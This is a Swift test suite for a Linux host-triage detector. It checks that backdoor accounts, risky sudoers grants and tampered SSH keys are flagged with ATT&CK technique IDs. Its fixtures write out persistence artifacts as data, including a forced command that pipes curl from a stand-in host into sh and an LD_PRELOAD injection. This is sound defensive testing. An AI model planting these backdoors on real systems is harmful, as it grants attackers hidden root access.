import CaseModel
import HostFacts
import Testing

@testable import Triage

@Suite struct AccountTests {
  private static func key(
    _ account: HostString, _ path: HostString, _ fingerprint: String, change: (inout SSHKeyRecord) -> Void = { _ in }
  ) -> SSHKeyRecord {
    var key = SSHKeyRecord(role: "authorized", account: account, path: path)
    key.line = 1
    key.fingerprint = fingerprint
    key.modifiedAt = HostSketch.ago(days: 300)
    key.changedAt = HostSketch.ago(days: 300)
    change(&key)
    return key
  }
  private static func sudo(_ line: HostString, path: HostString = "/etc/sudoers.d/x") -> PersistenceRecord {
    HostSketch.entry(.sudoers, path, line)
  }

  struct Case: CustomTestStringConvertible, Sendable {
    var id: String
    var technique: Technique
    var least: Severity
    var names: String
    var facts: [HostFact]
    var testDescription: String { "\(id) \(names)" }
    init(_ id: String, _ technique: Technique, _ least: Severity, names: String, _ facts: HostFact...) {
      self.id = "account.\(id)"
      self.technique = technique
      self.least = least
      self.names = names
      self.facts = facts
    }
  }

  static let abnormal: [Case] = [
    Case(
      "second-root", "T1136.001", .critical, names: "sysadm", .account(HostSketch.account("sysadm", 0, password: .hash))
    ),
    Case("empty-password", "T1078", .high, names: "bob", .account(HostSketch.account("bob", 1001, password: .empty))),
    Case(
      "service-login", "T1078.003", .high, names: "www-data",
      .account(HostSketch.account("www-data", 33, home: "/var/www", password: .hash))),
    Case(
      "service-login", "T1098", .medium, names: "nobody",
      .account(HostSketch.account("nobody", 65534, home: "/nonexistent"))),
    Case(
      "odd-home", "T1564.002", .medium, names: "tmpu",
      .account(HostSketch.account("tmpu", 1005, home: "/var/tmp/.h", password: .hash))),
    Case(
      "odd-home", "T1546.004", .high, names: "carl",
      .account(HostSketch.account("carl", 1006, shell: "/dev/shm/sh", password: .hash))),
    Case(
      "odd-name", "T1036.010", .high, names: "\\xe2\\x80\\x8b",
      .account(HostSketch.account(HostString("ro\u{200b}ot"), 1007, password: .hash))),
    Case(
      "odd-name", "T1136.001", .medium, names: "sysl0g",
      .account(HostSketch.account("syslog", 104, shell: "/usr/sbin/nologin")),
      .account(HostSketch.account("sysl0g", 1008, password: .hash))),
    Case(
      "duplicate", "T1136.001", .medium, names: "www-data",
      .account(HostSketch.account("www-data", 33, shell: "/usr/sbin/nologin")),
      .account(HostSketch.account("w", 33, password: .hash))),
    Case("sudo-grant", "T1548.003", .high, names: "www-data", .persistence(sudo("www-data ALL=(ALL) NOPASSWD: ALL"))),
    Case("sudo-grant", "T1548.003", .high, names: "ALL", .persistence(sudo("ALL ALL=(ALL:ALL) NOPASSWD:ALL"))),
    Case(
      "sudo-grant", "T1574.010", .high, names: "/tmp/", .persistence(sudo("deploy ALL=(root) NOPASSWD: /tmp/deploy.sh"))
    ),
    Case("sudo-grant", "T1548.003", .high, names: "vim", .persistence(sudo("nginx ALL=(root) NOPASSWD: /usr/bin/vim"))),
    Case("sudo-grant", "T1548.003", .high, names: "authenticate", .persistence(sudo("Defaults !authenticate"))),
    Case(
      "sudo-grant", "T1574.006", .high, names: "LD_PRELOAD", .persistence(sudo("Defaults env_keep += \"LD_PRELOAD\""))),
    Case(
      "system-key", "T1098.004", .high, names: "www-data",
      .account(HostSketch.account("www-data", 33, shell: "/usr/sbin/nologin")),
      .sshKey(key("www-data", "/var/www/.ssh/authorized_keys", "SHA256:a"))),
    Case(
      "root-key", "T1098.004", .low, names: "SHA256:new",
      .sshKey(
        SSHKeyRecord(role: "host", account: "", path: "/etc/ssh/k.pub").with {
          $0.modifiedAt = HostSketch.ago(days: 300)
        }),
      .sshKey(
        key("root", "/root/.ssh/authorized_keys", "SHA256:new") {
          $0.changedAt = HostSketch.ago(days: 1); $0.modifiedAt = HostSketch.ago(days: 1)
        })),
    Case(
      "key-options", "T1574.006", .high, names: "LD_PRELOAD",
      .sshKey(
        key("a", "/home/a/.ssh/authorized_keys", "SHA256:a") { $0.options = "environment=\"LD_PRELOAD=/tmp/x.so\"" })),
    Case(
      "key-options", "T1098.004", .high, names: "authorized_keys",
      .sshKey(
        key("a", "/home/a/.ssh/authorized_keys", "SHA256:a") {
          $0.forcedCommand = "curl http://h.example/x | sh; $SHELL"
        })),
    Case(
      "odd-key-file", "T1098.004", .medium, names: "authorized_keys2",
      .sshKey(key("root", "/root/.ssh/authorized_keys2", "SHA256:b") { $0.changedAt = HostSketch.ago(days: 9) })),
    Case(
      "weak-hash", "T1136.001", .medium, names: "md5",
      .account(HostSketch.account("a", 1000, password: .hash).with { $0.passwordScheme = "yescrypt" }),
      .account(
        HostSketch.account("b", 1001, password: .hash).with {
          $0.passwordScheme = "md5"; $0.passwordChangedDay = Int(HostSketch.ago(days: 3).seconds / 86_400)
        })),
  ]

  @Test(arguments: abnormal) func anAbnormalAccountIsFound(_ row: Case) throws {
    var host = HostSketch()
    host.facts += row.facts
    let finding = try #require(host.finding(row.id), "\(host.all.map { "\($0.id) \($0.title)" })")
    #expect(finding.severity >= row.least)
    #expect(finding.techniques.contains(row.technique))
    let told = finding.title.text + finding.evidence.map { $0.text.text + $0.source.text }.joined()
    #expect(told.contains(row.names), "\(told)")
  }

  @Test func anOrdinaryHostsAccountsGiveNothingAboveInfo() {
    var host = HostSketch()
    let people: [AccountRecord] = [
      HostSketch.account("root", 0, home: "/root"),
      HostSketch.account("daemon", 1, shell: "/usr/sbin/nologin", home: "/usr/sbin"),
      HostSketch.account("sync", 4, shell: "/bin/sync", home: "/bin"),
      HostSketch.account("www-data", 33, shell: "/usr/sbin/nologin", home: "/var/www"),
      HostSketch.account("nobody", 65534, shell: "/usr/sbin/nologin", home: "/nonexistent"),
      HostSketch.account("postgres", 113, home: "/var/lib/postgresql"), HostSketch.account("ubuntu", 1000),
      HostSketch.account("alice", 1001, password: .hash),
      HostSketch.account("jenkins", 115, home: "/var/lib/jenkins"),
      HostSketch.account("_apt", 105, shell: "/usr/sbin/nologin", home: "/nonexistent"),
      HostSketch.account("git", 116, shell: "/usr/bin/git-shell", home: "/srv/git"),
    ]
    host.facts += people.map { .account($0) }
    host.facts += [
      .sshKey(Self.key("ubuntu", "/home/ubuntu/.ssh/authorized_keys", "SHA256:k")),
      .sshKey(Self.key("alice", "/home/alice/.ssh/authorized_keys", "SHA256:k")),
      .sshKey(
        Self.key("root", "/root/.ssh/authorized_keys", "SHA256:k") {
          $0.options = "no-port-forwarding,command=\"echo\""
          $0.forcedCommand =
            "echo 'Please login as the user \"ubuntu\" rather than the user \"root\".';echo;sleep 10;exit 142"
        }),
      .sshKey(Self.key("git", "/srv/git/.ssh/authorized_keys", "SHA256:g")),
      .persistence(Self.sudo("ubuntu ALL=(ALL) NOPASSWD:ALL", path: "/etc/sudoers.d/90-cloud-init-users")),
      .persistence(Self.sudo("%sudo ALL=(ALL:ALL) ALL", path: "/etc/sudoers")),
      .persistence(Self.sudo("root ALL=(ALL:ALL) ALL", path: "/etc/sudoers")),
      .persistence(Self.sudo("deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart app")),
      .persistence(Self.sudo("zabbix ALL=(root) NOPASSWD: /usr/bin/nmap")),
      .persistence(Self.sudo("Defaults env_reset", path: "/etc/sudoers")),
      .persistence(Self.sudo("Defaults secure_path=\"/usr/local/sbin:/usr/bin:/snap/bin\"", path: "/etc/sudoers")),
    ]
    #expect(host.findings.isEmpty, "\(host.findings.map { "\($0.id) \($0.title)" })")
    #expect(host.finding("account.shared-key")?.severity == .info)
  }

  @Test func aNewPersonIsToldAndOneWhoMayBecomeRootWeighsMore() {
    var old = HostSketch.account("alice", 1000)
    old.homeBornAt = HostSketch.ago(days: 300)
    var new = HostSketch.account("bob", 1001, password: .hash)
    new.homeBornAt = HostSketch.ago(days: 5)
    #expect(HostSketch(.account(old), .account(new)).finding("account.new")?.severity == .info)
    new.groups = ["bob", "sudo"]
    #expect(HostSketch(.account(old), .account(new)).finding("account.new")?.severity == .low)
    #expect(HostSketch(.account(old)).finding("account.new") == nil)
  }

  @Test func anAccountOfTheseDaysIsFoundAndMovedHomesAreNot() {
    func person(_ name: HostString, _ uid: Int, days: Double) -> HostFact {
      var account = HostSketch.account(name, uid, password: .hash)
      account.homeBornAt = HostSketch.ago(days: days)
      return .account(account)
    }
    let fresh = HostSketch(person("alice", 1000, days: 300), person("bob", 1001, days: 0.2))
    #expect(fresh.finding("account.new")?.severity == .low)
    #expect(fresh.finding("account.new")?.techniques == ["T1136.001"])
    var moved = HostSketch(person("alice", 1000, days: 300))
    for uid in 1001..<1006 { moved.facts.append(person(HostString("p\(uid)"), uid, days: 0.2)) }
    #expect(moved.findings.isEmpty)
  }
}

extension SSHKeyRecord {
  func with(_ change: (inout SSHKeyRecord) -> Void) -> SSHKeyRecord {
    var copy = self
    change(&copy)
    return copy
  }
}

extension AccountRecord {
  func with(_ change: (inout AccountRecord) -> Void) -> AccountRecord {
    var copy = self
    change(&copy)
    return copy
  }
}
